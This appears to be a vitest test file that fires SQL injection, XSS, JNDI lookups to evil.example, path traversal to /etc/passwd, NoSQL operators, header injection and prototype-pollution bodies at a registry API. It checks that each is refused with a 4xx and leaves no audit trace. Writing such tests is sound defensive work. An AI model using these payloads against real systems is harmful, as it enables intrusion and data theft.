import { describe, expect, inject, it } from 'vitest';
import { accountBody, type Caller, callerAs, everyItem, inAYear, personBody, registryFixture, uniqueId } from '../support/api.ts';

/**
 * Malformed and hostile input across the write routes (and some reads): every one gets a 4xx with a message,
 * none a 5xx, and nothing changes: the caller that sent them has no audit event at all afterwards (every
 * change of state writes one, in the same transaction).
 */
const cloud = inject('localCloud');

const injections = ["' OR '1'='1", '"; DROP TABLE accounts; --', '<script>alert(1)</script>', '${jndi:ldap://evil.example/a}', '../../etc/passwd', '{"$ne":null}', '%00', '\r\nSet-Cookie: x=1', 'ＡＤＭＩＮ', '🦄'.repeat(70)];
const invisible = [
  'nul\u0000byte',
  'bidi\u202Eoverride',
  'zero\u200Bwidth',
  'bell\u0007',
  'x'.repeat(20_000),
  // Unicode's control, format, private-use and unassigned characters, and the line/paragraph separators.
  'c1\u009Bcontrol',
  'word\u2060joiner',
  'mongolian\u180Evowel',
  'tag\u{E0041}character',
  'line\u2028separator',
  'private\uE000use',
  'lone\uD800surrogate',
  'unassigned\u0378here',
];
const wrongTypes = [42, true, [], {}, null];

/** Values no strict field (id, email, date, enum, URL, handle) may accept. */
const strictHostile = [...injections, ...invisible, ...wrongTypes, ''];
/** Values no free-text field may accept (ordinary punctuation and markup are legitimate text). */
const textHostile = [...invisible, ...wrongTypes, '', '   '];

interface Case {
  name: string;
  method: string;
  path: string;
  body?: unknown;
  rawBody?: string;
  contentType?: string;
  ifMatch?: string;
}

function fieldCases(name: string, method: string, path: string, valid: Record<string, unknown>, strict: string[], text: string[], required: string[]): Case[] {
  const cases: Case[] = [];
  for (const field of strict) for (const value of strictHostile) cases.push({ name: `${name} ${field}=${JSON.stringify(value).slice(0, 30)}`, method, path, body: { ...valid, [field]: value } });
  for (const field of text) for (const value of textHostile) cases.push({ name: `${name} ${field}=${JSON.stringify(value).slice(0, 30)}`, method, path, body: { ...valid, [field]: value } });
  for (const field of required) {
    const { [field]: _dropped, ...rest } = valid;
    cases.push({ name: `${name} without ${field}`, method, path, body: rest });
  }
  cases.push({ name: `${name} with an unknown field`, method, path, body: { ...valid, isAdmin: true } });
  cases.push({ name: `${name} with __proto__`, method, path, rawBody: JSON.stringify(valid).replace(/^\{/, '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"x":1}},') });
  for (const body of [[], 'text', 7, null]) cases.push({ name: `${name} with body ${JSON.stringify(body)}`, method, path, body });
  return cases;
}

function envelopeCases(path: string, method: string, valid: unknown): Case[] {
  return [
    { name: `${method} ${path} invalid JSON`, method, path, rawBody: '{"a":' },
    { name: `${method} ${path} not JSON`, method, path, rawBody: JSON.stringify(valid), contentType: 'text/plain' },
    { name: `${method} ${path} form-encoded`, method, path, rawBody: 'a=1', contentType: 'application/x-www-form-urlencoded' },
    { name: `${method} ${path} oversized`, method, path, rawBody: JSON.stringify({ ...(valid as object), purpose: 'x'.repeat(70 * 1024) }) },
    { name: `${method} ${path} bad If-Match`, method, path, body: valid, ifMatch: 'not-a-version' },
  ];
}

describe('hostile and malformed input', () => {
  it('is refused with a 4xx and a message, never a 5xx, and changes nothing', async () => {
    const fx = await registryFixture(cloud);
    const attackerId = uniqueId('attacker');
    // On staff, so every case reaches validation (the registry refuses a stranger before reading any input).
    fx.expect2xx(await fx.admin('POST', '/people', { body: personBody(attackerId) }), 'attacker person');
    const attacker: Caller = await callerAs(cloud, attackerId, ['admin', 'hr']);
    const person = personBody(uniqueId('ok'));
    const account = accountBody(fx.ownerId);
    const grant = { personId: fx.ownerId, role: 'viewer', reason: 'r' };
    const policy = { id: uniqueId('pol'), title: 'T', kind: 'policy', documentVersion: '1', documentUrl: 'https://intranet.example.com/p', covers: { all: true }, reviewCadence: 'annual', ownerId: fx.adminId, nextReviewAt: inAYear() };
    const a = `/accounts/${fx.account.id}`;

    const cases: Case[] = [
      ...fieldCases('POST /people', 'POST', '/people', person, ['id', 'email', 'managerId', 'trainingExpiresAt'], ['name', 'team'], ['id', 'email', 'name', 'team']),
      ...fieldCases('POST /accounts', 'POST', '/accounts', account, ['platform', 'handle', 'platformAccountId', 'url', 'scope', 'ownerId', 'riskTier', 'backupOwnerId'], ['displayName', 'purpose', 'team'], ['platform', 'handle', 'ownerId', 'riskTier']),
      ...fieldCases('PATCH account', 'PATCH', a, { purpose: 'p' }, ['ownerId', 'riskTier', 'url', 'status'], ['purpose'], []),
      ...fieldCases('POST grant', 'POST', `${a}/grants`, grant, ['personId', 'role', 'expiresAt'], ['reason'], ['personId', 'role', 'reason']),
      ...fieldCases('PUT credential', 'PUT', `${a}/credential`, { username: 'u', password: 'not-a-real-one' }, ['totpSeed'], ['username'], ['username', 'password']),
      ...fieldCases('POST /policies', 'POST', '/policies', policy, ['id', 'kind', 'documentUrl', 'reviewCadence', 'ownerId', 'nextReviewAt'], ['title'], ['id', 'title', 'documentUrl']),
      // Cadences that read as cron but can never fire: fields out of range, days no month has.
      ...['cron(61 25 32 13 ? *)', 'cron(0 9 31 2 ? *)', 'cron(0 9 30 2 ? *)', 'cron(0 9 31 4,6,9,11 ? *)'].map((reviewCadence) => ({ name: `POST /policies reviewCadence=${reviewCadence}`, method: 'POST', path: '/policies', body: { ...policy, id: uniqueId('pol'), reviewCadence } })),
      ...fieldCases('POST /access-requests', 'POST', '/access-requests', { accountId: fx.account.id, role: 'viewer', reason: 'r' }, ['accountId', 'role'], ['reason'], ['accountId', 'role', 'reason']),
      // A number field: 42 days is a fair ask, so its hostile values are numbers out of range and other types.
      ...[0, 367, 1.5, -1, '42', true, null, [], {}].map((durationDays) => ({ name: `POST /access-requests durationDays=${JSON.stringify(durationDays)}`, method: 'POST', path: '/access-requests', body: { accountId: fx.account.id, role: 'viewer', reason: 'r', durationDays } })),
      ...fieldCases('POST /account-requests', 'POST', '/account-requests', { account, reason: 'r' }, ['account'], ['reason'], ['account', 'reason']),
      ...fieldCases('POST /successor-requests', 'POST', '/successor-requests', { successorId: fx.ownerId, accountIds: [fx.account.id], reason: 'r' }, ['successorId', 'accountIds'], ['reason'], ['successorId', 'accountIds', 'reason']),
      ...fieldCases('withdraw', 'POST', '/approvals/apr-doesnotexist/withdraw', { reason: 'r' }, [], ['reason'], ['reason']),
      // kinds that are not sweeps (a valid run would start one: every case here is invalid).
      ...[[], ['everything'], ['follow-up', 'follow-up-and-more'], 'follow-up', [42], ['FOLLOW-UP']].map((kinds) => ({ name: `review run kinds=${JSON.stringify(kinds)}`, method: 'POST', path: '/review-runs', body: { kinds } })),
      ...[null, [], 'text', 7, { kinds: ['follow-up'], isAdmin: true }].map((body) => ({ name: `review run body ${JSON.stringify(body)}`, method: 'POST', path: '/review-runs', body })),
      ...fieldCases('comment', 'POST', '/reviews/rv-doesnotexist/comments', { text: 't' }, [], ['text'], ['text']),
      ...['bogus', 'OPEN', "open' OR '1'='1"].map((status) => ({ name: `reviews status=${status}`, method: 'GET', path: `/reviews?status=${encodeURIComponent(status)}` })),
      ...['bogus', 'all'].map((status) => ({ name: `findings status=${status}`, method: 'GET', path: `/findings?status=${status}` })),
      ...envelopeCases('/access-requests', 'POST', { accountId: fx.account.id, role: 'viewer', reason: 'r' }),
      ...envelopeCases('/people', 'POST', person),
      ...envelopeCases(a, 'PATCH', { purpose: 'p' }),
      { name: 'import not a list', method: 'POST', path: '/people/import', body: { people: 'everyone' } },
      { name: 'import empty', method: 'POST', path: '/people/import', body: { people: [] } },
      // The import's envelope is `{ people }` and nothing else; each row is then checked on its own.
      { name: 'import with an unknown field', method: 'POST', path: '/people/import', body: { people: [personBody(uniqueId('imp'))], isAdmin: true } },
      { name: 'import with __proto__ and constructor', method: 'POST', path: '/people/import', rawBody: `{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"x":1}},"people":${JSON.stringify([personBody(uniqueId('imp'))])}}` },
      ...['-1', '0', '101', 'abc', '1e3'].map((limit) => ({ name: `limit=${limit}`, method: 'GET', path: `/accounts?limit=${limit}` })),
      ...['garbage!!', Buffer.from(JSON.stringify({ pk: 'PERSON#x', sk: 'PERSON' })).toString('base64url'), 'e30'].map((next) => ({ name: `next=${next}`, method: 'GET', path: `/people?next=${next}` })),
      ...injections.slice(0, 6).map((value) => ({ name: `path ${value}`, method: 'PATCH', path: `/people/${encodeURIComponent(value)}`, body: { team: 't' } })),
      // Malformed percent-encoding in the path (truncated, non-hex, a lone %, bytes that are not UTF-8), on API routes and link pages.
      ...['/accounts/%E0%A4%A', '/accounts/%ZZ', '/people/%', '/people/%C3%28', '/decide/%ZZ', '/review/%E0%A4%A', '/handover/%'].map((path) => ({ name: `GET ${path}`, method: 'GET', path })),
      { name: 'PATCH a malformed path', method: 'PATCH', path: '/people/%E0%A4%A', body: { team: 't' } },
      // The same strings reaching the handlers raw (%25 decodes to %), as a gateway that passed them on would send them.
      ...['/accounts/%25E0%25A4%25A', '/people/%25ZZ', '/decide/%25ZZ', '/review/%25E0%25A4%25A', '/handover/%25'].map((path) => ({ name: `GET ${path}`, method: 'GET', path })),
      { name: 'POST a link page at a malformed path', method: 'POST', path: '/decide/%ZZ', rawBody: 'decision=approve', contentType: 'application/x-www-form-urlencoded' },
    ];
    expect(cases.length).toBeGreaterThanOrEqual(200);

    const failures: string[] = [];
    for (const c of cases) {
      const response = await attacker(c.method, c.path, { body: c.body, rawBody: c.rawBody, contentType: c.contentType, ifMatch: c.ifMatch });
      // The API explains in JSON; the pages behind email links in an HTML page with a heading.
      const page = (response.headers.get('content-type') ?? '').startsWith('text/html') && /<h1>[^<]+<\/h1>/.test(response.text);
      const explained = page || (typeof response.body === 'object' && response.body !== null && typeof response.body.message === 'string' && response.body.message.length > 0);
      if (response.status < 400 || response.status >= 500 || !explained) failures.push(`${c.name}: ${response.status} ${response.text.slice(0, 120)}`);
    }
    expect(failures).toEqual([]);

    // Nothing changed: no audit event by the attacker, and the fixture account is as it was.
    expect(await everyItem(fx.admin, `/audit?actor=${attackerId}`)).toEqual([]);
    expect((await fx.admin('GET', a)).body.version).toBe(fx.account.version);
  });
});
